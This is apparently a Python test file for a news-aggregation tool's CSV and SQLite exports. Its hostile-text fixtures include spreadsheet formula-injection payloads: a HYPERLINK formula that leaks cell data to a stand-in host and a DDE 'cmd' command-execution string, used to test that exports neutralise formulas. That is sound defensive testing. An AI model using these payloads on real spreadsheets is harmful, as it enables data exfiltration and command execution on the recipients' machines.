"""Issue 17: exports. CSV files (facts, checks, quotes, outlets and the evidence of their numbers) checked
against the sample corpus's answer key; hostile text (commas, quotes, newlines, formula starts) survives
and never becomes a spreadsheet formula; the evidence bundle is one SQLite file with primary and foreign
keys that datasette serves as is; the export streams stories in pages, never the whole archive."""

from __future__ import annotations

import csv
import json
import socket
import sqlite3
import subprocess
import sys
import time
import urllib.request
from pathlib import Path

import pytest
from typer.testing import CliRunner

from newsfuse.cli import app as cli
from newsfuse.model import (
    Article,
    Assignment,
    Brief,
    BriefSentence,
    Check,
    Citation,
    Fact,
    Mention,
    QuoteEntry,
    Story,
    TimelineEntry,
)
from newsfuse.pipeline import run
from newsfuse.reconcile.outlets import METRICS
from newsfuse.settings import Settings
from newsfuse.store import open_store
from newsfuse.tables import FILES, safe_cell, write_bundle, write_csv

from .conftest import SAMPLE

KEY = json.loads((SAMPLE / "expected.json").read_text())
runner = CliRunner()


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f))


def export(db: str, out: Path, fmt: str, *extra: str) -> dict:
    res = runner.invoke(cli, ["export", "--db", db, "--format", fmt, "--out", str(out), "--json", *extra])
    assert res.exit_code == 0, res.output
    return json.loads(res.stdout)


@pytest.fixture(scope="module")
def sample(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("exports")
    settings = Settings(db=f"sqlite:///{tmp}/n.db", out=str(tmp / "briefs"))
    with open_store(settings.db) as store:
        run([str(SAMPLE / "corpus")], settings, store)
        originals = {a.id: a.original or a.text for a in store.articles(canonical_only=False)}
        story_ids = [s.id for s in store.stories()]
    csv_out = export(settings.db, tmp / "csv", "csv")
    bundle_out = export(settings.db, tmp / "bundle", "bundle")
    return settings, tmp, originals, story_ids, csv_out, bundle_out


# CSV on the sample corpus ------------------------------------------------------------------------------
def test_issue_17_csv_files_and_columns(sample) -> None:
    _, tmp, _, story_ids, out, _ = sample
    assert sorted(Path(f).name for f in out["files"]) == sorted(f"{n}.csv" for n in FILES)
    for name, columns in FILES.items():
        with (tmp / "csv" / f"{name}.csv").open(encoding="utf-8", newline="") as f:
            assert next(csv.reader(f)) == list(columns), name
        assert len(read_csv(tmp / "csv" / f"{name}.csv")) == out["rows"][name], name
    assert {"story", "subject", "value", "unit", "outlet", "fact_outlets", "status", "agreement", "article",
            "start", "end"} <= set(FILES["facts"])  # fmt: skip
    assert {"formula", "status", "citations", "sentences"} <= set(FILES["checks"])
    assert {"speaker", "text", "outlet", "article", "start", "end"} <= set(FILES["quotes"])
    assert sorted(r["story"] for r in read_csv(tmp / "csv" / "stories.csv")) == sorted(story_ids)


def test_issue_17_csv_facts_cite_the_exact_span_and_show_the_conflicts(sample) -> None:
    _, tmp, originals, _, _, _ = sample
    facts = read_csv(tmp / "csv" / "facts.csv")
    assert facts
    for r in facts:  # every statement points at its own words, inside its cited sentence
        text = originals[r["article"]]
        assert text[int(r["start"]) : int(r["end"])] == r["stated"].removeprefix("'"), r
        s, e = int(r["sentence_start"]), int(r["sentence_end"])
        assert text[s:e] == r["sentence"] and s <= int(r["start"]) and int(r["end"]) <= e
        assert r["outlet"] in r["fact_outlets"].split("; ")
    deaths = [r for r in facts if r["status"] == "conflict" and {float(r["value"])} <= {14.0, 17.0}]
    by_value = {(float(r["value"]), r["outlet"], r["agreement"]) for r in deaths}
    assert (17.0, "Northern Post", "against consensus") in by_value
    assert (14.0, "Valley Courier", "majority") in by_value
    found = 0
    for c in KEY["conflicts"]:  # the planted conflicts: both values, each with an outlet stating it
        want = {float(v) for v in c["values"]}
        rows = [r for r in facts if r["status"] == "conflict" and float(r["value"]) in want]
        found += {float(r["value"]) for r in rows} == want
    assert found >= 4  # as the sample test's floor (4 of 5 planted conflicts)


def test_issue_17_csv_checks_and_quotes(sample) -> None:
    _, tmp, originals, _, _, _ = sample
    checks = read_csv(tmp / "csv" / "checks.csv")
    for m in KEY["sum_mismatches"]:
        row = next(r for r in checks if r["kind"] == "sum" and r["status"] == "inconsistent")
        assert (float(row["expected"]), float(row["actual"])) == (m["total"], m["sum"])
        assert m["text"][:40] in row["sentences"] and row["formula"]
    for m in KEY["inconsistent_ratios"]:
        assert any(r["status"] == "inconsistent" and m["text"] in r["sentences"] for r in checks)
    for r in checks:  # each cited sentence is the text of its citation
        cites = r["citations"].split("; ")
        texts = r["sentences"].split("\n")
        assert len(cites) == len(texts) and r["formula"]
        for cite, text in zip(cites, texts, strict=True):
            article, _, span = cite.rpartition(":")
            s, e = (int(x) for x in span.split("-"))
            assert originals[article][s:e] == text
    quotes = read_csv(tmp / "csv" / "quotes.csv")
    for q in quotes:  # the quoted words are in the cited span
        span = originals[q["article"]][int(q["start"]) : int(q["end"])]
        assert q["text"] in span or q["text"] in " ".join(span.split()), q
    said = {(q["speaker"], q["outlet"]) for q in quotes}
    assert ("Dana Okafor", "Harbour Times") in said and ("Helena Marsh", "The Ledger") in said
    okafor = [q["text"] for q in quotes if q["speaker"] == "Dana Okafor"]
    assert any(KEY["quotes"][1]["text"] in t for t in okafor)


def test_issue_17_csv_outlets_match_newsfuse_outlets_and_their_evidence(sample) -> None:
    settings, tmp, _, _, _, _ = sample
    res = runner.invoke(cli, ["outlets", "--db", settings.db, "--json"])
    assert res.exit_code == 0, res.output
    shown = {r["outlet"]: r["counts"] for r in json.loads(res.stdout)}
    rows = read_csv(tmp / "csv" / "outlets.csv")
    assert [r["outlet"] for r in rows] == list(shown)  # same order: most figures first
    evidence = read_csv(tmp / "csv" / "outlet_evidence.csv")
    for r in rows:
        assert {m: int(r[m]) for m in METRICS} == shown[r["outlet"]], r["outlet"]
        for m in METRICS:  # each number is the count of its evidence rows
            assert sum(1 for e in evidence if e["outlet"] == r["outlet"] and e["metric"] == m) == int(r[m])
    assert all(e["citations"] and e["sentences"] for e in evidence)


def test_issue_17_export_one_story(sample) -> None:
    settings, tmp, _, story_ids, _, _ = sample
    sid = story_ids[0]
    out = export(settings.db, tmp / "one", "csv", "--story", sid)
    assert out["rows"]["stories"] == 1
    assert {r["story"] for r in read_csv(tmp / "one" / "facts.csv")} == {sid}
    res = runner.invoke(cli, ["export", "--db", settings.db, "--out", str(tmp / "none"), "--story", "nosuch"])
    assert res.exit_code != 0 and not (tmp / "none" / "facts.csv").exists()
    res = runner.invoke(cli, ["export", "--db", settings.db, "--out", str(tmp / "x"), "--format", "xls"])
    assert res.exit_code != 0


# hostile text ------------------------------------------------------------------------------------------
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
    "\t=1+1", "\r=1+1", " =1+1", "\uff1d1+1", 'comma, "quote" and\nnewline', "plain, but\r\nCRLF inside",
]  # fmt: skip


def hostile_store(url: str) -> None:
    """A story whose outlets, headline, facts, checks and quotes are all hostile text."""
    body = " ".join(HOSTILE) + " 14 people died."
    with open_store(url) as store:
        arts = [Article(id=f"h{i}", text=f"{body} ({i})", original=f"{body} ({i})", title=HOSTILE[i],
                        source=HOSTILE[i], published="2025-01-0" + str(i + 1)) for i in range(2)]  # fmt: skip
        store.add_articles([(a, None) for a in arts])
        store.mark_done([a.id for a in arts])
        n = body.index("14")
        cites = tuple(Citation(a.id, 0, len(body), a.source) for a in arts)
        mentions = tuple(Mention(a.id, a.source, HOSTILE[k], 14.0 + k, n, n + 2, cites[k], k)
                         for k, a in enumerate(arts))  # fmt: skip
        fact = Fact(HOSTILE[0], "people", None, None, 14.0, "conflict", (arts[0].source, arts[1].source),
                    mentions, note=HOSTILE[8], majority=False)  # fmt: skip
        brief = Brief(
            "shostile0001",
            HOSTILE[3],
            tuple(BriefSentence(h, cites[:1], section=h) for h in HOSTILE),
            facts=(fact,),
            conflicts=(fact,),
            checks=(Check("sum", "inconsistent", HOSTILE[1], 14.0, 15.0, cites, formula=HOSTILE[2]),),
            quotes=tuple(QuoteEntry(h, h, "said", cites[k % 2], group=k) for k, h in enumerate(HOSTILE)),
            timeline=(TimelineEntry("2025-01-01", "day", HOSTILE[4], cites[0]),),
            sources=(arts[0].source, arts[1].source),
            articles=("h0", "h1"),
            disagreement=HOSTILE[0],
        )
        members = tuple(Assignment(a.id, "shostile0001", 1.0, new_story=k == 0) for k, a in enumerate(arts))
        story = Story("shostile0001", ("h0", "h1"), HOSTILE[0], "2025-01-01", "2025-01-02", members)
        store.save_story(story, brief)


def test_issue_17_safe_cell_neutralises_formulas() -> None:
    for text in HOSTILE[:8]:
        assert safe_cell(text) == "'" + text
    assert safe_cell(HOSTILE[8]) == HOSTILE[8] and safe_cell("3,400 dockworkers") == "3,400 dockworkers"
    assert safe_cell(-2.5) == -2.5 and safe_cell(None) == "" and safe_cell(0) == 0


def test_issue_17_csv_hostile_text_round_trips_and_never_runs(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path}/h.db"
    hostile_store(url)
    with open_store(url) as store:
        counts = write_csv(store, tmp_path / "csv")
    assert counts["stories"] == 1 and counts["facts"] == 2 and counts["quotes"] == len(HOSTILE)
    runs = {"=", "+", "-", "@", "\t", "\r", "\uff1d"}
    seen = set()
    for name in FILES:
        with (tmp_path / "csv" / f"{name}.csv").open(encoding="utf-8", newline="") as f:
            rows = list(csv.reader(f))
        assert len(rows) == 1 + counts[name], name  # newlines inside cells broke no row
        for row in rows[1:]:
            for cell in row:
                assert cell.lstrip(" ")[:1] not in runs, (name, cell)  # no cell starts a formula
                seen.add(cell.removeprefix("'"))
    assert set(HOSTILE) <= seen  # and each text reads back as written, after the apostrophe
    quotes = read_csv(tmp_path / "csv" / "quotes.csv")
    assert [q["speaker"].removeprefix("'") for q in quotes] == HOSTILE
    outlets = read_csv(tmp_path / "csv" / "outlets.csv")
    assert {o["outlet"] for o in outlets} == {"'" + HOSTILE[0], "'" + HOSTILE[1]}


def test_issue_17_bundle_keeps_hostile_text_exactly(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path}/h.db"
    hostile_store(url)
    with open_store(url) as store:
        write_bundle(store, tmp_path / "b")
    db = sqlite3.connect(tmp_path / "b" / "evidence.db")
    assert [r[0] for r in db.execute("SELECT speaker FROM quotes ORDER BY id")] == HOSTILE
    assert {r[0] for r in db.execute("SELECT name FROM outlets")} == {HOSTILE[0], HOSTILE[1]}
    assert db.execute("SELECT headline FROM stories").fetchone()[0] == HOSTILE[3]
    assert db.execute("SELECT count(*) FROM citations WHERE summary_sentence_id IS NOT NULL").fetchone()[
        0
    ] == len(HOSTILE)


# the evidence bundle -----------------------------------------------------------------------------------
TABLES = {"stories", "articles", "story_articles", "sentences", "summary_sentences", "facts", "fact_statements",
          "checks", "quotes", "timeline", "outlets", "outlet_evidence", "citations"}  # fmt: skip
FOREIGN = {
    ("story_articles", "story_id", "stories"), ("story_articles", "article_id", "articles"),
    ("sentences", "article_id", "articles"), ("summary_sentences", "story_id", "stories"),
    ("facts", "story_id", "stories"), ("fact_statements", "fact_id", "facts"),
    ("fact_statements", "article_id", "articles"), ("fact_statements", "sentence_id", "sentences"),
    ("checks", "story_id", "stories"), ("quotes", "article_id", "articles"), ("quotes", "story_id", "stories"),
    ("outlet_evidence", "outlet", "outlets"), ("outlet_evidence", "story_id", "stories"),
    ("citations", "article_id", "articles"), ("citations", "sentence_id", "sentences"),
    ("citations", "summary_sentence_id", "summary_sentences"), ("citations", "check_id", "checks"),
    ("citations", "outlet_evidence_id", "outlet_evidence"),
}  # fmt: skip


def test_issue_17_bundle_tables_keys_and_content(sample) -> None:
    _, tmp, originals, story_ids, csv_out, out = sample
    db = sqlite3.connect(tmp / "bundle" / "evidence.db")
    names = {r[0] for r in db.execute("SELECT name FROM sqlite_master WHERE type = 'table'")}
    assert names >= TABLES
    fks = {(t, r[3], r[2]) for t in TABLES for r in db.execute(f"PRAGMA foreign_key_list({t})")}
    assert fks >= FOREIGN
    for t in TABLES:  # every table has a primary key
        assert any(r[5] for r in db.execute(f"PRAGMA table_info({t})")), t
    assert db.execute("PRAGMA foreign_key_check").fetchall() == []
    assert sorted(r[0] for r in db.execute("SELECT id FROM stories")) == sorted(story_ids)
    assert (
        out["rows"]["fact_statements"] == csv_out["rows"]["facts"]
        and out["rows"]["checks"] == csv_out["rows"]["checks"]
    )
    # every cited span is the article's text there, inside the sentence it names
    rows = db.execute(
        "SELECT c.article_id, c.span_start, c.span_end, c.text, s.span_start, s.span_end "
        "FROM citations c LEFT JOIN sentences s ON s.id = c.sentence_id"
    ).fetchall()
    assert rows
    for art, s, e, text, ss, se in rows:
        assert originals[art][s:e] == text
        assert ss is None or (ss <= s and e <= se)
    assert sum(1 for r in rows if r[4] is not None) > len(rows) / 2
    uncited = db.execute(
        "SELECT count(*) FROM summary_sentences WHERE id NOT IN (SELECT summary_sentence_id FROM citations "
        "WHERE summary_sentence_id IS NOT NULL)"
    ).fetchone()[0]
    assert uncited == 0
    failed = db.execute(
        "SELECT k.expected, k.actual, c.text FROM checks k JOIN citations c ON c.check_id = k.id "
        "WHERE k.kind = 'sum' AND k.status = 'inconsistent'"
    ).fetchall()
    m = KEY["sum_mismatches"][0]
    assert any((x, y) == (m["total"], m["sum"]) and m["text"][:40] in t for x, y, t in failed)
    meta = json.loads((tmp / "bundle" / "metadata.json").read_text())
    assert meta["title"] and meta["source"].startswith("newsfuse")
    assert set(meta["databases"]["evidence"]["tables"]) == TABLES
    assert all(t["description"] for t in meta["databases"]["evidence"]["tables"].values())


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def _get(url: str) -> dict:
    with urllib.request.urlopen(url, timeout=10) as r:  # noqa: S310 - our own server on 127.0.0.1
        return json.loads(r.read())


def test_issue_17_datasette_serves_the_bundle_as_is(sample) -> None:
    _, tmp, _, _, _, out = sample
    port = _free_port()
    cmd = [str(Path(sys.executable).parent / "datasette"), "serve", str(tmp / "bundle" / "evidence.db"),
           "-m", str(tmp / "bundle" / "metadata.json"), "--host", "127.0.0.1", "--port", str(port)]  # fmt: skip
    proc = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    base = f"http://127.0.0.1:{port}"
    try:
        for _ in range(100):
            try:
                _get(f"{base}/-/versions.json")
                break
            except OSError:
                assert proc.poll() is None, proc.stderr.read().decode() if proc.stderr else ""
                time.sleep(0.2)
        facts = _get(f"{base}/evidence/facts.json?_shape=objects&_size=max")
        assert len(facts["rows"]) == out["rows"]["facts"] and {"subject", "status"} <= set(facts["rows"][0])
        cited = _get(f"{base}/evidence/citations.json?_shape=objects&_labels=on&_size=5")["rows"]
        assert (
            isinstance(cited[0]["article_id"], dict) and "label" in cited[0]["article_id"]
        )  # foreign keys seen
        meta = _get(f"{base}/-/metadata.json")
        assert meta["title"] == "newsfuse evidence bundle"
        found = _get(f"{base}/evidence/articles.json?_shape=objects&_search=floodwaters")["rows"]
        assert found and all("flood" in r["text"].lower() for r in found)  # full-text search on articles
    finally:
        proc.terminate()
        proc.wait(timeout=10)
        if proc.stderr:
            proc.stderr.close()


# streaming ---------------------------------------------------------------------------------------------
class Spy:
    """A store that records how the export reads it."""

    def __init__(self, store):
        self.store = store
        self.pages: list[int] = []

    def __getattr__(self, name):
        if name in ("stories", "story_summaries", "articles", "duplicates"):
            raise AssertionError(f"the export called store.{name}: it reads the whole archive")
        return getattr(self.store, name)

    def browse_stories(self, f, limit, after=None):
        rows = self.store.browse_stories(f, limit, after)
        self.pages.append(len(rows))
        assert limit <= 25
        return rows


@pytest.fixture(params=["sqlite", "postgresql"])
def store_url(request, tmp_path: Path):
    if request.param == "sqlite":
        yield f"sqlite:///{tmp_path}/many.db"
        return
    from .test_store import pg_schema

    with pg_schema() as url:  # fails, not skips, without the server
        yield url


def test_issue_17_exports_stream_stories_in_pages(store_url: str, tmp_path: Path) -> None:
    with open_store(store_url) as store:
        for i in range(60):  # equal dates in runs of 7: the keyset must neither skip nor repeat a story
            sid = f"s{i:04d}"
            day = f"2025-02-{1 + i // 7:02d}"
            body = f"Story {i}: {i + 3} ships waited at the port, officials said."
            a = Article(
                id=f"a{i}", text=body, original=body, title=f"t{i}", source=f"Outlet {i % 4}", published=day
            )
            store.add_articles([(a, None)])
            n = body.index(str(i + 3))
            c = Citation(a.id, 0, len(body), a.source)
            m = Mention(a.id, a.source, str(i + 3), float(i + 3), n, n + len(str(i + 3)), c)
            f = Fact("ships", "count", None, None, float(i + 3), "single-source", (a.source,), (m,))
            brief = Brief(sid, f"headline {i}", (BriefSentence(body, (c,)),), facts=(f,), sources=(a.source,),
                          articles=(a.id,))  # fmt: skip
            store.save_story(
                Story(sid, (a.id,), f"t{i}", day, day, (Assignment(a.id, sid, 1.0, new_story=True),)), brief
            )
        spy = Spy(store)
        counts = write_csv(spy, tmp_path / "csv", page=25)
        assert spy.pages == [25, 25, 10]
        bundle = write_bundle(spy, tmp_path / "b", page=25)
    stories = [r["story"] for r in read_csv(tmp_path / "csv" / "stories.csv")]
    assert sorted(stories) == [f"s{i:04d}" for i in range(60)] and counts["facts"] == 60
    assert (
        bundle["stories"] == 60 and bundle["facts"] == 60 and bundle["citations"] == 3 * 60
    )  # summary, figures, single-source
    outlets = read_csv(tmp_path / "csv" / "outlets.csv")
    assert {o["outlet"]: int(o["stories"]) for o in outlets} == {f"Outlet {k}": 15 for k in range(4)}
